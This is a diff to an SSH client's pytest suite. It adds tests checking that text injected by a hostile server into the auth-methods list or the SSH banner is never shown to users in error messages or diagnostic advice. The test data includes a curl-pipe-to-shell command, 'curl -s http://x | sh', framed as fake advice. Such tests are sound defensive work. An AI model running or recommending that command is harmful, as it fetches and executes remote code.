@@ -26,7 +26,9 @@ import pytest
 from fsspec.implementations.sftp import SFTPFileSystem
 from paramiko import sftp
 
-from detrain_nb.errors import SpecError, TransportError
+from detrain_nb import doctor
+from detrain_nb.errors import HostKeyError, SpecError, TransportError
+from detrain_nb.spec.node import Node
 from detrain_nb.transport import ssh, ssh_files, ssh_identities, ssh_opening
 from detrain_nb.transport.known_hosts import fingerprint
 from detrain_nb.transport.ssh import SshConnection, SshTarget
@@ -202,6 +204,8 @@ class Recorder(Server):
 
     offered: list[str] = field(default_factory=list)
     takes: bool = False
+    methods: str = "publickey"  # that it says it allows
+    wants_more: bool = False
     answers: threading.Event = field(default_factory=threading.Event)
     transports: list[paramiko.Transport] = field(default_factory=list)
 
@@ -215,7 +219,7 @@ def recorder(tmp_path: Path, home: Path) -> Iterator[Recorder]:
 
     class Policy(paramiko.ServerInterface):
         def get_allowed_auths(self, username: str) -> str:
-            return "publickey"
+            return server.methods
 
         def check_auth_none(self, username: str) -> int:
             server.offered.append("none")
@@ -227,6 +231,8 @@ def recorder(tmp_path: Path, home: Path) -> Iterator[Recorder]:
 
         def check_auth_publickey(self, username: str, key: paramiko.PKey) -> int:
             server.offered.append(fingerprint(key.asbytes()))
+            if server.wants_more:
+                return paramiko.AUTH_PARTIALLY_SUCCESSFUL
             return paramiko.AUTH_SUCCESSFUL if server.takes else paramiko.AUTH_FAILED
 
         def check_channel_request(self, kind: str, chanid: int) -> int:
@@ -1028,6 +1034,46 @@ def test_too_many_keys_is_said(start_sshd: StartSshd, home: Path, agent: None) -
         add_to_agent(make_key(home / name))
     with fails(match=r"hung up after \d keys, .*MaxAuthTries"):
         connect()
+
+
+_SENTENCE = "the host key of node is not known: a key: after comparing it, add it: curl -s http://x | sh #"
+
+
+@pytest.mark.parametrize("wants_more", [True, False])
+def test_sentence_in_place_of_ways_to_authenticate_is_not_shown(
+    recorder: Recorder, key: Path, wants_more: bool
+) -> None:
+    recorder.make_known()
+    recorder.configure(f"IdentityFile {key}")
+    recorder.methods, recorder.wants_more = f"{_SENTENCE},gssapi-with-mic,{'a' * 65}", wants_more
+    with pytest.raises(TransportError) as caught:
+        connect()
+    assert "gssapi-with-mic" in str(caught.value)
+    assert "curl" not in str(caught.value) and "aaa" not in str(caught.value)
+    assert not isinstance(caught.value, HostKeyError)
+    [problem] = doctor.examine([Node(host="node")], config_path=recorder.home / "config").problems
+    assert (problem.check, problem.advice, problem.command) == ("ssh", "", "")
+    assert "curl" not in problem.what
+
+
+def test_sentence_in_place_of_the_ssh_banner_is_not_shown(home: Path, tmp_path: Path) -> None:
+    with socket.create_server(("127.0.0.1", 0)) as listener:
+        Server("node", listener.getsockname()[1], make_key(tmp_path / "host_key"), home).configure()
+
+        def speak() -> None:
+            with listener.accept()[0] as channel:
+                channel.sendall(f"{_SENTENCE}\r\n".encode() * 101)
+                channel.settimeout(LIMIT_S)
+                with contextlib.suppress(OSError):
+                    while channel.recv(1024):
+                        pass
+
+        thread = threading.Thread(target=speak)
+        thread.start()
+        with pytest.raises(TransportError, match="is not SSH") as caught:
+            connect()
+        thread.join()
+    assert "curl" not in str(caught.value)
 
 
 def test_host_that_takes_no_keys_is_said(start_sshd: StartSshd) -> None:
